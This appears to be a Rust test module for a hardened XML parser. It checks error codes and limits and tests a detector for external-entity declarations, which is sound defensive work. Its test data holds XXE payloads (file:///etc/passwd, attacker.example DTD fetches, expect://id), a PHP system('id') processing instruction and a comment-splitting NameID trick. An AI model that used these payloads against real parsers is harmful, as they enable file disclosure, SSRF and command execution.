use super::*;

fn code(input: &[u8]) -> &'static str {
    match parse(input, &XmlLimits::default()) {
        Ok(_) => "ok",
        Err(e) => e.code(),
    }
}

#[test]
fn attacks_fail_with_their_code_next_to_look_alikes_that_pass() {
    let cases: &[(&[u8], &str)] = &[
        (
            b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"http://127.0.0.1:9/\">]><r>&x;</r>",
            "xml-doctype",
        ),
        (b"<!DOCTYPE r><r/>", "xml-doctype"),
        (b"<r>&x;</r>", "xml-unknown-entity"),
        (b"<r a=\"&x;\"/>", "xml-unknown-entity"),
        (b"<r a=\"&lt;&#x41;&#66;\">&lt;&gt;&amp;&apos;&quot;&#x263A;</r>", "ok"),
        (b"<r>&#0;</r>", "xml-bad-char-ref"),
        (b"<r>&#xD800;</r>", "xml-bad-char-ref"),
        (b"<?xml-stylesheet href=\"x\"?><r/>", "xml-processing-instruction"),
        (b"<r><?php system('id') ?></r>", "xml-processing-instruction"),
        (b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><r/>", "ok"),
        (b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r/>", "xml-encoding"),
        (b"<?xml version=\"1.1\"?><r/>", "ok"),
        (b"<?xml version='1.1' encoding='UTF-8'?><project><d>x</d></project>", "ok"),
        (b"<?xml version=\"1.1\"?><r>a\xC2\x85b</r>", "xml-version"),
        (b"<?xml version=\"1.1\"?><r>a\xE2\x80\xA8b</r>", "xml-version"),
        (b"<?xml version=\"1.2\"?><r/>", "xml-version"),
        (b"<r a=\"1\" a=\"2\"/>", "xml-duplicate-attribute"),
        (b"<r a=\"1\" b=\"2\" ns:a=\"3\"/>", "ok"),
        (b"<r/><r/>", "xml-multiple-roots"),
        (b"<r></r>x", "xml-text-outside-root"),
        (b"x<r/>", "xml-text-outside-root"),
        (b"\n<!-- c --><r/>\n<!-- d -->\n", "ok"),
        (b"", "xml-no-root"),
        (b"<r><a></r>", "xml-syntax"),
        (b"<r>", "xml-unexpected-end"),
        (b"<r a=\"x<y\"/>", "xml-syntax"),
        (b"<r>\xff</r>", "xml-invalid-utf8"),
        (b"\xEF\xBB\xBF<r/>", "ok"),
        (b"<r><!-- a -- b --></r>", "xml-syntax"),
        (b"<r><![CDATA[<script>&x;</script>]]></r>", "ok"),
        (
            b"<NameID>admin@corp.example<!---->.evil.example</NameID>",
            "xml-comment-in-text",
        ),
        (b"<r>a<!-- c -->&amp;b</r>", "xml-comment-in-text"),
        (b"<r>a<!-- c -->\n  </r>", "ok"),
        (b"<r>\n  <!-- c -->b</r>", "ok"),
        (b"<r><a>x</a><!-- c --><b>y</b></r>", "ok"),
        (b"<r>a<b/><!-- c -->c</r>", "ok"),
    ];
    for (input, want) in cases {
        assert_eq!(code(input), *want, "{}", input.escape_ascii());
    }
}

#[test]
fn emits_text_and_attributes_with_xpath_like_locations() {
    let body = br#"<?xml version="1.0"?>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope">
  <soap:Body>
    <order id="7">
      <item sku="a&amp;b">one</item>
      <item sku="c">t&lt;w<![CDATA[<o>]]></item>
      <note/>
    </order>
  </soap:Body>
</soap:Envelope>"#;
    let p = parse(body, &XmlLimits::default()).expect("valid");
    let got: Vec<(String, LeafKind, String)> = p
        .leaves
        .iter()
        .map(|l| (p.location(l.path), l.kind, l.value.to_string()))
        .collect();
    let want = [
        (
            "/soap:Envelope/@xmlns:soap",
            LeafKind::Attribute,
            "http://www.w3.org/2003/05/soap-envelope",
        ),
        (
            "/soap:Envelope/soap:Body/order/@id",
            LeafKind::Attribute,
            "7",
        ),
        (
            "/soap:Envelope/soap:Body/order/item/@sku",
            LeafKind::Attribute,
            "a&b",
        ),
        ("/soap:Envelope/soap:Body/order/item", LeafKind::Text, "one"),
        (
            "/soap:Envelope/soap:Body/order/item[2]/@sku",
            LeafKind::Attribute,
            "c",
        ),
        (
            "/soap:Envelope/soap:Body/order/item[2]",
            LeafKind::Text,
            "t<w<o>",
        ),
    ];
    let want: Vec<(String, LeafKind, String)> = want
        .iter()
        .map(|(p, k, v)| (p.to_string(), *k, v.to_string()))
        .collect();
    assert_eq!(got, want);
    assert!(matches!(p.leaves[3].value, Cow::Borrowed("one")));
    assert!(matches!(p.leaves[1].value, Cow::Borrowed("7")));
}

#[test]
fn enforces_each_limit_next_to_the_largest_legal_input() {
    let l = XmlLimits {
        max_depth: 3,
        max_attributes: 2,
        max_elements: 4,
        max_name_bytes: 4,
        max_text_bytes: 5,
    };
    let cases: &[(&[u8], &str)] = &[
        (b"<a><b><c/></b></a>", "ok"),
        (b"<a><b><c><d/></c></b></a>", "xml-too-deep"),
        (b"<a><b/><b/><b/></a>", "ok"),
        (b"<a><b/><b/><b/><b/></a>", "xml-too-many-elements"),
        (b"<a x=\"1\" y=\"2\"/>", "ok"),
        (b"<a x=\"1\" y=\"2\" z=\"3\"/>", "xml-too-many-attributes"),
        (b"<abcd/>", "ok"),
        (b"<abcde/>", "xml-name-too-long"),
        (b"<a abcde=\"1\"/>", "xml-name-too-long"),
        (b"<a>12345</a>", "ok"),
        (b"<a>12&amp;45</a>", "ok"),
        (b"<a>123456</a>", "xml-text-too-long"),
        (b"<a>123<![CDATA[456]]></a>", "xml-text-too-long"),
        (b"<a x=\"123456\"/>", "xml-text-too-long"),
    ];
    for (input, want) in cases {
        let got = match parse(input, &l) {
            Ok(_) => "ok",
            Err(e) => {
                assert_eq!(e.status(), 413, "{}", input.escape_ascii());
                e.code()
            }
        };
        assert_eq!(got, *want, "{}", input.escape_ascii());
    }
}

#[test]
fn errors_carry_the_element_path() {
    let e = parse(b"<a><b/><b><c>&bogus;</c></b></a>", &XmlLimits::default()).expect_err("entity");
    assert_eq!(e.path(), Some("/a/b[2]/c"));
}

#[test]
fn external_entities_are_told_from_public_dtds_and_text_entities() {
    let external: &[&str] = &[
        r#"<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg/>"#,
        r#"<!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/evil.dtd"> %d;]><r/>"#,
        r#"<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>"#,
        r#"<!DOCTYPE r [<!ENTITY x PUBLIC "-//x//EN" 'http://attacker.example/x'>]><r>&x;</r>"#,
        "\u{feff}<!-- c --><!DOCTYPE r [<!ENTITY\tx\tSYSTEM\t'expect://id'>]><r/>",
    ];
    let harmless: &[&str] = &[
        r#"<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>"#,
        r#"<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY note "system notes">]><svg/>"#,
        r#"<svg xmlns="http://www.w3.org/2000/svg"><text>SYSTEM "x"</text></svg>"#,
        "GIF89a;<!DOCTYPE r SYSTEM \"x\">",
        "",
    ];
    for doc in external {
        assert!(super::declares_external_entity(doc.as_bytes()), "{doc}");
    }
    for doc in harmless {
        assert!(!super::declares_external_entity(doc.as_bytes()), "{doc}");
    }
}
